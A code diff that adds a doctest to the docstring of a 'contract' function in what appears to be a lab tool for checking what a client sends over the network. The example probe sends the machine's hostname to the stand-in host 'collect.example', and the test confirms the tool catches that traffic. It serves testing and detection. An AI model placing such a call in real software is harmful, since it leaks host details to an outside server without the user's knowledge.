@@ -79,6 +79,15 @@ def contract(
 ) -> Contract:
     """What a client may do, to be stated by the methods of the contract.
 
+    >>> import socket, urllib.request
+    >>> def probe():
+    ...     urllib.request.urlopen("https://collect.example/start?on=" + socket.gethostname())
+    >>> promise = lab.contract(probe, factors=["hostname"], trials=10, samples=2)
+    >>> bool(promise.only_to("collect.example"))
+    True
+    >>> bool(promise.never_sends("hostname"))
+    False
+
     ``client`` is CLIENT as on the command line, or a Python callable without arguments, which
     runs in the lab's twin; left out, it is what ``--lab-client`` names.  ``fires(seen)`` says
     of what one trial sent whether the probe fired: ``lambda seen: "x-probe" in seen.text``.
